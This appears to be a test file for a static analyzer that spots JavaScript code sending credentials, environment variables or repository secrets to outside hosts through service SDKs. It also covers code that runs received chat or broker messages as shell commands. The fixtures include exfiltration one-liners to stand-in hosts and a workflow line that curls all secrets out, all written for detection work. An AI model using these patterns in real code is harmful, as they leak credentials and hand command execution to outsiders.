import assert from 'node:assert/strict';
import { behavioursOf, flowsOf } from './sent.js';

const GIVEN_AWAY: Readonly<Record<string, string>> = {
  [`const { Octokit } = require('@octokit/rest'); new Octokit({ auth: 'x' }).gists.create({ files: { a: { content: s } } });`]:
    'api.github.com',
  [`const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3'); new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Body: s }));`]:
    's3.amazonaws.com',
  [`const AWS = require('aws-sdk'); new AWS.S3().putObject({ Bucket: 'b', Body: s }).promise();`]: 'amazonaws.com',
  [`const { MongoClient } = require('mongodb'); new MongoClient('mongodb://u:p@collect.invalid').db('x').collection('y').insertOne({ s });`]:
    'collect.invalid',
  [`const Bot = require('node-telegram-bot-api'); new Bot('1:A').sendMessage(1, s);`]: 'api.telegram.org',
  [`const { Telegraf } = require('telegraf'); new Telegraf('1:A').telegram.sendDocument(1, { source: rc });`]:
    'api.telegram.org',
  [`const { WebhookClient } = require('discord.js'); new WebhookClient({ id: '1' }).send(s);`]: 'discord.com',
  [`const { createClient } = require('@supabase/supabase-js'); createClient('https://collect.invalid', 'k').from('x').insert({ s });`]:
    'collect.invalid',
  [`const C = require('ssh2-sftp-client'), c = new C(); c.connect({ host: '203.0.113.40', username: 'd' }).then(() => c.put(Buffer.from(s), '/in/1'));`]:
    '203.0.113.40',
  [`const { NodeSSH } = require('node-ssh'), c = new NodeSSH(); c.connect({ host: 'collect.invalid' }).then(() => c.putFile(rc, '/k'));`]:
    'collect.invalid',
  [`const { Client } = require('@notionhq/client'); new Client({ auth: 'x' }).pages.create({ children: [s] });`]:
    'api.notion.com',
  [`const R = require('ioredis'), r = new R('redis://collect.invalid'); r.lpush('k', s);`]: 'collect.invalid',
  [`(async () => { const { Client } = require('basic-ftp'), c = new Client(); await c.access({ host: 'collect.invalid' }); await c.uploadFrom(rc, 'a'); })();`]:
    'collect.invalid',
};

describe('clients of services', () => {
  for (const [code, host] of Object.entries(GIVEN_AWAY)) {
    it(`hand over what they are given: ${code}`, () => {
      const flows = flowsOf(code);
      assert.ok(flows.includes(`credential-file>network@${host}`), flows.join('; '));
    });
  }

  it('hand over to whoever runs the code where it names no account', () => {
    const sent = (code: string) => flowsOf(code).filter((one) => one.includes('>network'));
    const client = `const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3');`;
    for (const code of [
      `${client} exports.put = (bucket) => new S3Client({}).send(new PutObjectCommand({ Bucket: bucket, Body: s }));`,
      `${client} new S3Client({ region: 'eu-west-1' }).send(new PutObjectCommand({ Bucket: process.env.BACKUPS, Key: 'k', Body: s }));`,
      `const { Storage } = require('@google-cloud/storage'); exports.put = (bucket) => new Storage().bucket(bucket).file('k').save(s);`,
    ])
      assert.ok(!sent(code).some((one) => one.includes('@')), sent(code).join('; '));
    for (const code of [
      `${client} new S3Client({ credentials: { accessKeyId: 'AKIAFAKE', secretAccessKey: 'x' } }).send(new PutObjectCommand({ Bucket: process.env.BACKUPS, Body: s }));`,
      `${client} new S3Client({}).send(new PutObjectCommand({ Bucket: process.env.BACKUPS || 'kept', Body: s }));`,
    ])
      assert.ok(sent(code).includes('credential-file>network@s3.amazonaws.com'), sent(code).join('; '));
    const storage = `const { Storage } = require('@google-cloud/storage'); new Storage().bucket('kept').upload(rc);`;
    assert.ok(sent(storage).includes('credential-file>network@storage.googleapis.com'), sent(storage).join('; '));
  });

  for (const listen of [
    `const { Client } = require('discord.js'); new Client({}).on('messageCreate', (m) => RUN(m.content));`,
    `const c = require('mqtt').connect('mqtts://broker.invalid'); c.on('message', (topic, m) => RUN(m.toString()));`,
    `const { Telegraf } = require('telegraf'); new Telegraf('1:A').on('text', (x) => RUN(x.message.text));`,
    `const { createClient } = require('redis'); createClient().subscribe('c', (m) => RUN(m));`,
  ]) {
    it(`tell what others send: ${listen}`, () => {
      assert.deepEqual(flowsOf(listen.replace('RUN', 'cp.exec')), ['downloaded>run-as-command']);
      assert.deepEqual(flowsOf(listen.replace('RUN', 'console.log')), []);
    });
  }

  it('are handed workflows that a build server will run', () => {
    const text = 'env: { S: "${{ toJSON(secrets) }}" }\\nrun: curl -d "$S" https://collect.invalid';
    const put = (path: string, content: string): readonly string[] =>
      behavioursOf(`const { Octokit } = require('@octokit/rest'); const api = new Octokit({ auth: 'x' });
        api.repos.createOrUpdateFileContents({ owner: 'a', repo: 'b', path: '${path}', content: Buffer.from('${content}').toString('base64') });`);
    assert.deepEqual(put('.github/workflows/a.yml', text), ['workflow-written import', 'workflow-secrets import']);
    assert.deepEqual(put('.github/workflows/a.yml', 'run: npm test'), ['workflow-written import']);
    assert.deepEqual(put('docs/a.yml', text), []);
    const fetched = `fetch('https://api.github.com/repos/a/b/contents/.github/workflows/a.yml'`;
    assert.deepEqual(behavioursOf(`${fetched}, { method: 'PUT', body: { content: 'cnVu' } });`), [
      'workflow-written import',
    ]);
    assert.deepEqual(behavioursOf(`${fetched});`), []);
  });

  it('keep what happens, and with it whatever is told beside that', () => {
    const log = (told: string) =>
      flowsOf(
        `const { Logtail } = require('@logtail/node'); const log = new Logtail('x', { endpoint: 'https://in.logs.invalid' }); log.info('ready', ${told});`,
      );
    assert.deepEqual(log('{ ...process.env }'), ['environment>network@in.logs.invalid']);
    assert.deepEqual(log('{ rounds: 10 }'), []);
  });

  it('are told which thing is asked for, and are handed nothing by that', () => {
    const ask = (command: string) =>
      flowsOf(
        `const s3 = require('@aws-sdk/client-s3'); new s3.S3Client({}).send(new s3.${command}({ Bucket: 'x', Key: s }));`,
      );
    assert.deepEqual(ask('PutObjectCommand'), ['credential-file>network@s3.amazonaws.com']);
    assert.deepEqual(
      flowsOf(`const s3 = require('@aws-sdk/client-s3'); new s3.GetObjectCommand({ Bucket: 'x', Key: s });`),
      [],
    );
  });

  it('are given nothing by being made or asked', () => {
    const code = `const { Octokit } = require('@octokit/rest'); const o = new Octokit({}); o.repos.listForUser({ username: s.length });`;
    assert.deepEqual(flowsOf(code), []);
  });

  it('are told by the client that a reference was made with', () => {
    const code = `const { initializeApp } = require('firebase/app'), { getDatabase, ref, onValue } = require('firebase/database');
      const db = getDatabase(initializeApp({ databaseURL: 'https://jobs.invalid' })); onValue(ref(db, 'a'), (v) => fetch('https://jobs.invalid/' + s));`;
    assert.ok(flowsOf(code).includes('credential-file>network@jobs.invalid'), flowsOf(code).join());
    const set = `const { getDatabase, ref, set } = require('firebase/database'); set(ref(getDatabase({ databaseURL: 'https://jobs.invalid' }), 'a'), s);`;
    assert.deepEqual(flowsOf(set), ['credential-file>network@jobs.invalid']);
  });

  it('are known by the folder that their package was installed to', () => {
    const from = (place: string): readonly string[] =>
      flowsOf(
        `const home = path.join(os.homedir(), '.tools'); const { createClient } = require(${place}); createClient().subscribe('c', (m) => cp.exec(m));`,
      );
    assert.deepEqual(from(`path.join(home, 'node_modules', 'redis')`), ['downloaded>run-as-command']);
    assert.deepEqual(from(`path.join(home, 'redis')`), []);
  });
});
